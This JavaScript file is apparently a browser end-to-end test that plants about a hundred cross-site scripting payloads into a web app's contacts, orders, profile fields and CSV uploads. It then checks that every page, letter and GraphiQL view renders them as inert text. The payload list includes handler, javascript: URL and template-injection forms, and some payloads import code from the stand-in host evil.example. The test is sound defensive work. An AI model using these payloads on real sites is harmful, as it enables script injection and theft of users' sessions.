/**
 * A hundred texts that would be scripts if a page took them for markup, as names, companies, notes, lists, orders, files, headers and
 * cells, by the API and by a file: on every page, in letters and in GraphiQL they are text. Nothing runs, nothing is asked for,
 * no link leads to a script, and the content security policy has nothing to report.
 */
import { journey, openWindow, same, signIn, step } from "./browser.mjs";
import { consentPage, partnerPages, providerPages } from "./pages/addresses.mjs";
import { settled } from "./pages/look.mjs";
import { ask } from "./shared/api.mjs";

const DEEDS = ["alert(1)", "globalThis.hit=1", "import('//evil.example')"];
const SHAPES = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<img src=x onerror=${deed}>`,
  (deed) => `"><img src=x onerror=${deed}>`,
  (deed) => `'><svg onload=${deed}>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin=${deed} attributeName=x>`,
  (deed) => `<body onload=${deed}>`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>">`,
  (deed) => `<iframe src="javascript:${deed}">`,
  (deed) => `<a href="javascript:${deed}">x</a>`,
  (deed) => `<a href="data:text/html,<script>${deed}</script>">x</a>`,
  (deed) => `javascript:${deed}`,
  (deed) => `JaVaScRiPt:${deed}//`,
  (deed) => `" onmouseover=${deed} x="`,
  (deed) => `' onfocus=${deed} autofocus x='`,
  (deed) => `<input autofocus onfocus=${deed}>`,
  (deed) => `<details open ontoggle=${deed}>`,
  (deed) => `<video><source onerror=${deed}></video>`,
  (deed) => `<math><mtext></form><img src=x onerror=${deed}>`,
  (deed) => `<style>@import '//evil.example'</style><b onclick=${deed}>`,
  (deed) => `<link rel=stylesheet href=//evil.example><i title=${deed}>`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `<base href=//evil.example/><u id=${deed}>`,
  (deed) => `<form action=javascript:${deed}><button>x`,
  (deed) => `<object data="javascript:${deed}">`,
  (deed) => `<embed src="javascript:${deed}">`,
  (deed) => `</textarea><script>${deed}</script>`,
  (deed) => `</title><script>${deed}</script>`,
  (deed) => `--><script>${deed}</script><!--`,
  (deed) => `]]><script>${deed}</script>`,
  (deed) => `{{constructor.constructor('${deed}')()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
];
const TEXTS = SHAPES.flatMap((shape) => DEEDS.map(shape)).slice(0, 100);
const RUN = Date.now().toString(36);

/** What a window did that text does not do. */
async function watch(page, found) {
  page.on("dialog", (dialog) => {
    found.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (request.url().includes("evil.example")) found.push(`a request: ${request.url()}`);
  });
  await page.exposeFunction("tellReport", (report) => found.push(`a CSP report: ${report}`));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sourceFile }) =>
      globalThis.tellReport(`${violatedDirective} ${blockedURI} ${sourceFile}`),
    );
  });
}

/** The page, and the letter inside it, which has a frame of its own. */
async function inspect(page, name, found) {
  for (const frame of page.frames()) await inspectFrame(frame, name);
  same(found, [], `what happened on ${name}`);
}

async function inspectFrame(frame, name) {
  const seen = await frame.evaluate(() => {
    const scripts = /^\s*(javascript|data|vbscript):/i;
    const links = [...document.querySelectorAll("[href], [src], [action], [formaction]")].flatMap((each) =>
      ["href", "src", "action", "formaction"].map((attribute) => each.getAttribute(attribute) ?? ""),
    );
    const handlers = [...document.querySelectorAll("*")].flatMap((each) =>
      each.getAttributeNames().filter((attribute) => attribute.startsWith("on")),
    );
    return {
      ran: globalThis.hit === 1,
      links: links.filter((link) => scripts.test(link) && !link.startsWith("data:image/")),
      handlers,
      frames: document.querySelectorAll(
        "iframe[srcdoc]:not([sandbox]), iframe[sandbox*=allow-scripts], object, embed, base[href]",
      ).length,
    };
  });
  same(seen, { ran: false, links: [], handlers: [], frames: 0 }, `what became of the texts on ${name}`);
}

async function plant(page) {
  const { providers } = await ask(page, "{ providers { id } }");
  const send = async (field, type, input, answer) => {
    const query = `mutation ($input: ${type}!) { ${field}(input: $input) { ${answer} errors { code message path } } }`;
    const { [field]: payload } = await ask(page, query, { input });
    same(payload.errors, [], `${field} refused`);
    return payload;
  };
  await send("updateOrganization", "UpdateOrganizationInput", { name: TEXTS[1] }, "organization { id }");
  await send("updateProfile", "UpdateProfileInput", { name: TEXTS[3] }, "user { id }");
  const { contactList } = await send(
    "createContactList",
    "CreateContactListInput",
    { name: `${TEXTS[1]} ${RUN}`.slice(0, 100) },
    "contactList { id }",
  );
  const people = TEXTS.map((text, i) => ({
    email: `markup${i}.${RUN}@markup.example`,
    firstName: text.slice(0, 90),
    lastName: TEXTS[(i + 1) % TEXTS.length].slice(0, 90),
    company: TEXTS[(i + 2) % TEXTS.length].slice(0, 90),
    jobTitle: TEXTS[(i + 3) % TEXTS.length].slice(0, 90),
    city: TEXTS[(i + 4) % TEXTS.length].slice(0, 90),
    notes: TEXTS.join("\n").slice(0, 2000),
  }));
  const query = `mutation ($input: UpsertContactsInput!) { upsertContacts(input: $input) { results { outcome contact { id } errors { message path } } } }`;
  const { upsertContacts } = await ask(page, query, {
    input: { contacts: people, contactListId: contactList.id, consent: "CONFIRMED" },
  });
  same([...new Set(upsertContacts.results.map(({ outcome }) => outcome))], ["ADDED"], "outcomes of the contacts");
  // A web address is shown as a link: one that would run is no web address.
  const sites = TEXTS.filter((text) => /^\s*javascript:/i.test(text)).map((website, i) => ({
    email: `site${i}.${RUN}@markup.example`,
    website,
  }));
  const { upsertContacts: refused } = await ask(page, query, { input: { contacts: sites } });
  same([...new Set(refused.results.map(({ outcome }) => outcome))], ["FAILED"], "outcomes of the web addresses");
  const { order } = await send(
    "createOrder",
    "CreateOrderInput",
    { name: TEXTS[0], service: TEXTS[3], providerId: providers[0].id, contactListId: contactList.id },
    "order { id }",
  );
  return {
    order: order.id,
    list: contactList.id,
    contacts: upsertContacts.results.slice(0, 12).map(({ contact }) => contact.id),
  };
}

/** The texts as the name of a file, as headers, as cells that are imported and as cells that fail. */
async function upload(page, order) {
  const cell = (text) => `"${text.replaceAll('"', '""')}"`;
  const rows = [["E-mail", "First name", TEXTS[1], TEXTS[4]]];
  TEXTS.forEach((text, i) => {
    rows.push([i % 5 ? `file${i}.${RUN}@markup.example` : text, text.slice(0, 90), text, text]);
  });
  const buffer = Buffer.from(rows.map((row) => row.map(cell).join(",")).join("\n"));
  await page.goto(`/orders/${order}/upload`);
  await page
    .locator("input[type=file]")
    .setInputFiles({ name: `${TEXTS[4].replaceAll("/", "")}.csv`, mimeType: "text/csv", buffer });
  await page.getByRole("button", { name: "Continue" }).click();
  await page.getByRole("button", { name: "Check the file" }).click();
  await page.getByRole("button", { name: "Upload Leads" }).and(page.locator(":enabled")).click();
  await page.getByText("Completed", { exact: true }).waitFor();
}

await journey(async (browser) => {
  const found = [];
  const partner = await openWindow(browser, "partner");
  await watch(partner, found);
  await signIn(partner, "partner@example.com");

  const planted = await step(`${TEXTS.length} texts come by the API`, () => plant(partner));
  await step("and by a file, its name and headers included", async () => {
    await upload(partner, planted.order);
    await inspect(partner, "the upload", found);
  });

  const text = encodeURIComponent(TEXTS[1]);
  const own = {
    order: `/orders/${planted.order}`,
    activity: `/orders/${planted.order}/activity`,
    list: `/contact-lists/${planted.list}`,
    search: `/orders?search=${text}`,
    people: `/contacts?search=${text}`,
    nowhere: `/${text}`,
    ...Object.fromEntries(planted.contacts.map((id) => [`contact ${id}`, `/contacts/${id}`])),
  };
  await step("the partner's pages show them as text", async () => {
    await partner.goto(own.order);
    await partner.getByText(TEXTS[0], { exact: true }).first().waitFor();
    for (const [name, path] of Object.entries({ ...own, ...(await partnerPages(partner)) })) {
      await partner.goto(path);
      await settled(partner);
      await inspect(partner, name, found);
    }
  });

  await step("so do the provider's", async () => {
    const provider = await openWindow(browser, "provider");
    await watch(provider, found);
    await signIn(provider, "provider@example.com");
    await ask(
      provider,
      "mutation ($id: ID!) { changeOrderStatus(input: {orderId: $id, status: APPROVED}) { errors { message } } }",
      { id: planted.order },
    );
    const pages = { order: own.order, activity: own.activity, ...(await providerPages(provider)) };
    for (const [name, path] of Object.entries(pages)) {
      await provider.goto(path);
      await settled(provider);
      await inspect(provider, `the provider's ${name}`, found);
    }
  });

  await step("letters carry them as text, and so does the page of a person who is asked", async () => {
    await partner.goto(await consentPage(partner));
    await partner.getByText(TEXTS[1]).first().waitFor();
    await inspect(partner, "the page of consent", found);
    const { letters } = await ask(partner, "{ letters(first: 5) { edges { node { id } } } }");
    for (const { node } of letters.edges) {
      await partner.goto(`/mailbox/${node.id}`);
      await settled(partner);
      await inspect(partner, "a letter", found);
    }
  });

  await step("and so does GraphiQL", async () => {
    await partner.goto("/graphql");
    await partner.getByRole("button", { name: "Show Documentation Explorer" }).click();
    await partner.getByText("Root Types").waitFor();
    await partner.getByRole("button", { name: /^Execute query/ }).click();
    await partner.locator(".result-window").getByText('"participantSummary"').first().waitFor();
    same(found, [], "what happened in GraphiQL");
  });
});
